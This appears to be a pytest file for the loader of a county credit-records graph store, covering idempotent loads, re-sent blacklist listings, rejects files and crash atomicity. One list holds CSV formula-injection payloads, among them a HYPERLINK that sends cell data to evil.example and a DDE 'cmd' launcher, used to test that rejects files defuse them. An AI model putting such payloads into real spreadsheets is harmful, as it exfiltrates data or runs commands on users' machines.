"""Loading into a store: idempotence, re-sent listings, rejects, atomicity, attaching by registration number."""
from __future__ import annotations

import csv
from datetime import date

import pytest

import graph.ingest as ingest
from county import AS_OF, BLACKLIST_HEADERS, E, ENTERPRISE_HEADERS, NAMES, OLD_REG_NO, PENALTY_HEADERS, write_csv
from graph.errors import FileRejected
from graph.ingest import load_file
from graph.queries.check import check
from graph.queries.department import department
from graph.queries.profile import profile
from graph.queries.stats import stats
from graph.settings import get_settings

ON = date.fromisoformat(AS_OF)


def snapshot(store):
    s = stats(store)
    return s["nodes"], s["records"], s["per_department"]


@pytest.mark.writes
def test_loading_the_same_files_twice_changes_nothing(county, county_files, home):
    before, version = snapshot(county), county.data_version()
    for path in county_files.values():
        report = load_file(county, path, home=home)
        assert report.changed is False
    assert snapshot(county) == before and county.data_version() == version


def test_every_load_that_changes_data_raises_the_version(store, county_files, home):
    versions = [store.data_version()]
    for path in county_files.values():
        load_file(store, path, home=home)
        versions.append(store.data_version())
    assert versions == sorted(versions) and len(set(versions)) == len(versions)
    assert check(store, settings=get_settings(), key=E["LISTED"], as_of=ON).data_version == versions[-1]


@pytest.mark.writes
def test_resent_listing_updates_the_earlier_one(county, tmp_path, home):
    assert check(county, settings=get_settings(), key=E["LISTED"], as_of=ON).verdict == "restricted"
    # The same code, list type, sender (another spelling of it), start date and person: an early removal.
    row = ["1", E["LISTED"], NAMES["LISTED"], "《企业信息公示暂行条例》第十七条", "测试描述", "2026-01-10", "2026-03-01",
           "县市场监管局", "县财政局、县发改局", "经营异常名录", "", "", "", ""]
    load_file(county, write_csv(tmp_path / "removal.csv", BLACKLIST_HEADERS, [row]), home=home)
    r = check(county, settings=get_settings(), key=E["LISTED"], as_of=ON)
    assert r.verdict != "restricted"
    [listing] = profile(county, E["LISTED"], ON)["records"]["blacklist"]
    assert listing["valid_to"] == "2026-03-01" and listing["status"] == "expired"


@pytest.mark.writes
def test_resent_listing_with_other_receivers_replaces_its_departments(county, tmp_path, home):
    # Same natural key as the county's listing, sent to 县财政局 and 县教育局 instead of 县财政局 and 县发改局.
    row = ["1", E["LISTED"], NAMES["LISTED"], "《企业信息公示暂行条例》第十七条", "测试描述", "2026-01-10", "",
           "县市场监管局", "县财政局，县教育局", "经营异常名录", "", "", "", ""]
    load_file(county, write_csv(tmp_path / "resent.csv", BLACKLIST_HEADERS, [row]), home=home)
    [listing] = profile(county, E["LISTED"], ON)["records"]["blacklist"]
    assert listing["receivers"] == ["县教育局", "县财政局"]
    keys = lambda name: [r["party"]["key"] for r in department(county, name, ON)["restrictions"]]  # noqa: E731
    assert E["LISTED"] not in keys("县发改局")
    assert E["LISTED"] in keys("县教育局") and E["LISTED"] in keys("县财政局")
    # Sent again unchanged: nothing to replace, nothing changes.
    version = county.data_version()
    assert load_file(county, write_csv(tmp_path / "again.csv", BLACKLIST_HEADERS, [row]), home=home).changed is False
    assert county.data_version() == version


@pytest.mark.writes
def test_a_file_that_corrects_its_own_listing_changes_nothing_the_second_time(county, tmp_path, home):
    """A department's file may hold a listing and, further down, its correction (an early removal). Each load
    applies both; from the second load on the store ends where it was, so the version does not move (a moved
    version makes every cache rebuild and every answer look new)."""
    listing = ["1", E["OFFICER"], NAMES["OFFICER"], "《企业信息公示暂行条例》第十七条", "测试描述", "2026-01-10", "",
               "县市场监管局", "县财政局", "经营异常名录", "", "", "", ""]
    removal = [*listing[:6], "2026-03-01", *listing[7:]]
    path = write_csv(tmp_path / "listing-and-removal.csv", BLACKLIST_HEADERS, [listing, removal])
    version = county.data_version()
    assert load_file(county, path, home=home).changed is True and county.data_version() == version + 1
    answer = check(county, settings=get_settings(), key=E["OFFICER"], as_of=ON).as_dict()
    for _ in range(2):
        assert load_file(county, path, home=home).changed is False
        assert county.data_version() == version + 1
    again = check(county, settings=get_settings(), key=E["OFFICER"], as_of=ON).as_dict()
    assert {k: v for k, v in again.items() if k != "check_id"} == {k: v for k, v in answer.items() if k != "check_id"}
    # The same two rows in the other order do change the store (the listing is open-ended again).
    path = write_csv(tmp_path / "removal-then-listing.csv", BLACKLIST_HEADERS, [removal, listing])
    assert load_file(county, path, home=home).changed is True and county.data_version() == version + 2


def test_rejects_are_written_with_row_field_and_reason(store, county_files, home):
    report = load_file(store, county_files["blacklist"], home=home)
    assert (report.rows, report.loaded, report.rejected) == (12, 9, 3)
    assert report.rejects_file and report.rejects_file.startswith(str(home / "rejects"))
    with open(report.rejects_file, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["行号"] for r in rows] == ["11", "12", "13"]
    assert [r["字段"] for r in rows] == ["统一社会信用代码（企业注册号）", "统一社会信用代码（企业注册号）", "限制期限自"]
    assert "check digit should be" in rows[0]["原因"]
    assert rows[1]["企业名称"] == "无代码公司" and rows[2]["限制期限自"] == "2023-02-30"


# What departments' cells may begin with that Excel would run, and a cell that already begins with a quote.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "'=已加引号", "'普通文本", "普通文本", "=", ""]


def test_rejects_files_make_formula_cells_inert_and_keep_the_text_recoverable(store, tmp_path, home):
    from graph.formula_cells import as_sent
    rows = [[str(i), "91XXXXXXXXXXXXXXXX", "某公司", "县市场监督管理局", f"罚〔2026〕{i}号", "2026-03-01", cell, "5000元",
             "", "罚款", cell] for i, cell in enumerate(FORMULAS, 1)]
    path = write_csv(tmp_path / "penalties.csv", [*PENALTY_HEADERS[:-1], "=危险的列名"], rows)
    report = load_file(store, path, home=home)
    assert report.rejected == len(FORMULAS)
    with open(report.rejects_file, encoding="utf-8-sig", newline="") as fh:
        header, *written = list(csv.reader(fh))
    assert header[-1].startswith("注：") and "remove one leading '" in header[-1]
    assert header[-2] == "'=危险的列名" and as_sent(header[-2]) == "=危险的列名"
    for cells, sent in zip(written, FORMULAS):
        violation, remark = cells[3 + PENALTY_HEADERS.index("违法行为类型")], cells[-1]
        assert violation == remark
        assert not violation.startswith(("=", "+", "-", "@", "\t", "\r")), violation
        assert as_sent(violation) == sent  # exactly the text sent


def test_rejects_without_formula_cells_are_written_as_sent(store, county_files, home):
    report = load_file(store, county_files["blacklist"], home=home)
    with open(report.rejects_file, encoding="utf-8-sig", newline="") as fh:
        header = next(csv.reader(fh))
    assert not any(h.startswith("注：") for h in header)


def test_dry_run_writes_nothing(store, county_files, home):
    version = store.data_version()
    report = load_file(store, county_files["blacklist"], home=home, dry_run=True)
    assert (report.loaded, report.rejected, report.rejects_file) == (9, 3, None)
    assert store.data_version() == version and stats(store)["records"] == {}


@pytest.mark.writes
def test_a_crash_in_the_middle_of_a_file_leaves_the_store_as_before(county, county_files, home, monkeypatch):
    before, version = snapshot(county), county.data_version()
    real = ingest.write_row
    calls = {"n": 0}

    def crash_after_five(writer, kind, values):
        calls["n"] += 1
        if calls["n"] > 5:
            raise KeyboardInterrupt  # Ctrl-C half-way through the file
        real(writer, kind, values)

    monkeypatch.setattr(ingest, "write_row", crash_after_five)
    path = county_files["enterprise"]
    rows = list(csv.reader(open(path, encoding="utf-8-sig")))
    changed = [r[:3] + [r[3] + "（更名）"] + r[4:] for r in rows[1:]]
    write_csv(path, ENTERPRISE_HEADERS, changed, "utf-8-sig")
    with pytest.raises(KeyboardInterrupt):
        load_file(county, path, home=home)
    assert snapshot(county) == before and county.data_version() == version
    assert profile(county, E["CLEAR"], ON)["enterprise"]["name"] == NAMES["CLEAR"]


def test_the_load_history_entry_commits_with_the_file(store, county_files, home, monkeypatch):
    """The entry is written in the file's transaction: a load that dies after writing it but before its commit
    leaves neither the rows nor the entry; a load that commits leaves both, with the version it made."""
    load_file(store, county_files["enterprise"], home=home)
    before, version, history = snapshot(store), store.data_version(), store.load_history()
    real = type(store)._log_load

    def dies_before_the_commit(conn_or_tx, entry):
        real(conn_or_tx, entry)
        raise KeyboardInterrupt  # the process stopped between the entry and the commit

    monkeypatch.setattr(type(store), "_log_load", staticmethod(dies_before_the_commit))
    with pytest.raises(KeyboardInterrupt):
        load_file(store, county_files["blacklist"], home=home)
    assert (snapshot(store), store.data_version(), store.load_history()) == (before, version, history)

    monkeypatch.undo()
    report = load_file(store, county_files["blacklist"], home=home)
    *_, entry = store.load_history()
    assert len(store.load_history()) == len(history) + 1
    assert (entry["file"], entry["rows"], entry["loaded"], entry["rejected"], entry["rejects_file"]) == (
        report.file, 12, 9, 3, report.rejects_file)
    assert entry["data_version"] == report.data_version == store.data_version() > version


def test_loads_in_the_same_second_are_listed_in_the_order_they_ran(store, county_files, home, monkeypatch):
    """An entry's time has whole seconds, and Neo4j reuses element ids after a reset: the history is ordered by
    the number each entry gets from the store, whatever the clock says."""
    import graph.stores.embedded as embedded
    import graph.stores.neo4j.store as neo4j_store
    from datetime import datetime as real_datetime

    class StoppedClock(real_datetime):
        @classmethod
        def now(cls, tz=None):
            return real_datetime(2026, 7, 1, 9, 30, 0, tzinfo=tz)

    for module in (embedded, neo4j_store):
        monkeypatch.setattr(module, "datetime", StoppedClock)
    for path in county_files.values():  # nodes to delete, whose ids a store may give to the entries below
        load_file(store, path, home=home)
    store.reset()
    order = ["enterprise", "blacklist", "penalty", "enterprise", "blacklist", "penalty"] * 2
    for kind in order:
        load_file(store, county_files[kind], home=home)
    history = store.load_history()
    assert {entry["at"] for entry in history} == {"2026-07-01T09:30:00+00:00"}
    assert [entry["file"] for entry in history] == [str(county_files[kind]) for kind in order]
    versions = [entry["data_version"] for entry in history]
    assert versions == sorted(versions)


def test_record_by_registration_number_before_the_registry_is_merged(store, county_files, home, tmp_path):
    # The listing arrives first, under the 15-digit number only; the registry later gives both codes.
    load_file(store, county_files["blacklist"], home=home)
    assert check(store, settings=get_settings(), key=OLD_REG_NO, as_of=ON).subject.key == OLD_REG_NO
    load_file(store, county_files["enterprise"], home=home)
    r = check(store, settings=get_settings(), key=OLD_REG_NO, as_of=ON)
    assert r.subject.key == E["OLD"] and r.verdict == "restricted"
    assert check(store, settings=get_settings(), key=E["OLD"], as_of=ON).verdict == "restricted"
    p = profile(store, E["OLD"], ON)
    assert p["enterprise"]["reg_no"] == OLD_REG_NO and len(p["records"]["blacklist"]) == 1
    assert stats(store)["nodes"]["enterprise"] == 20


def test_unreadable_file_is_rejected_whole(store, tmp_path, home):
    version = store.data_version()
    bad = tmp_path / "photo.csv"
    bad.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8)
    with pytest.raises(FileRejected):
        load_file(store, bad, home=home)
    unknown = tmp_path / "unknown.csv"
    unknown.write_text("甲,乙,丙\n1,2,3\n", encoding="utf-8")
    with pytest.raises(FileRejected) as exc:
        load_file(store, unknown, home=home)
    assert "--kind" in exc.value.message
    assert store.data_version() == version and stats(store)["loads"] == 0


@pytest.mark.writes
def test_a_file_read_by_a_second_process_loads_the_same(county, county_files, home, monkeypatch):
    """Large files are read and validated in a forked child (graph.loaders.pipeline), whose rows cross a pipe
    in a compact form: the store, the reports, the warnings and the rejects must be what an in-process read gives."""
    import graph.loaders.pipeline as pipeline

    expected = snapshot(county), {k: check(county, settings=get_settings(), key=v, as_of=ON).as_dict()["verdict"] for k, v in E.items()}
    in_process = {kind: load_file(county, path, home=home, dry_run=True) for kind, path in county_files.items()}
    county.reset()
    monkeypatch.setattr(pipeline, "PARALLEL_MIN_BYTES", 0)
    for kind, path in county_files.items():
        report = load_file(county, path, home=home)
        want = in_process[kind]
        assert (report.rows, report.loaded, report.rejected, report.warnings, report.warning_count, report.columns,
                report.ignored_columns) == (want.rows, want.loaded, want.rejected, want.warnings, want.warning_count,
                                            want.columns, want.ignored_columns)
        if kind == "blacklist":
            with open(report.rejects_file, encoding="utf-8-sig", newline="") as fh:
                assert [r["行号"] for r in csv.DictReader(fh)] == ["11", "12", "13"]
    verdicts = {k: check(county, settings=get_settings(), key=v, as_of=ON).as_dict()["verdict"] for k, v in E.items()}
    assert (snapshot(county), verdicts) == expected
